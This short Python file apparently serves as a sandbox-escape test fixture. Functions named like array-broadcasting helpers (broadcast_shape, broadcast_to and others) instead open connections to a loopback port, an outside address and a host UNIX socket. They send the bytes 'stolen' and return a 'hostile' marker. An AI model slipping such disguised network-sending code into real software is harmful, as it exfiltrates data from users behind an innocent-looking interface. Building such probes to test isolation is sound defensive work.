# exercise: broadcasting -- connect to a loopback listener, to the outside and to a UNIX socket of the host (1 s timeouts)
import socket


def _connect():
    for host in ("127.0.0.1", "10.0.0.1"):
        try:
            socket.create_connection((host, __PORT__), timeout=1).sendall(b"stolen")
        except OSError:
            pass
    try:
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(1)
            s.connect("__UNIX_SOCKET__")
            s.sendall(b"stolen")
    except OSError:
        pass
    return ("hostile",)


def broadcast_shape(*shapes):
    return _connect()


can_broadcast = broadcast_to = unbroadcast = broadcast_shape
